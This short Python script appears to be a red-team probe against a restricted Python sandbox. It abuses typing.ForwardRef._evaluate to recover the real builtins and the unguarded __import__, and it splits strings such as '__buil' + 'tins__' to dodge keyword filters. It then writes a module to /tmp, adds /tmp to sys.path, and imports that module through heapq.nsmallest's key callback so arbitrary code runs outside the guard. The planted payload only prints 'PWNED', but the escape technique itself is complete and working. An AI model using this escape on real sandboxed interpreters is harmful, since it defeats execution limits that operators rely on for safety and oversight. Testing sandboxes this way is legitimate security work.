# eval: write /tmp/mod.py, put /tmp on the real sys.path, import it from heapq's frame: module code runs with real builtins
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
s = rb["__imp" + "ort__"]("sy" + "s")
with open("/tmp/rt_evilmod2.py", "w") as f:
    f.write("import os\nprint('PWN' + 'ED', os.getpid())\n")
s.path.insert(0, "/tmp")
try:
    heapq.nsmallest(1, ["rt_evilmod2"], key=imp)
except Exception as e:
    print("refused:", type(e).__name__, e)
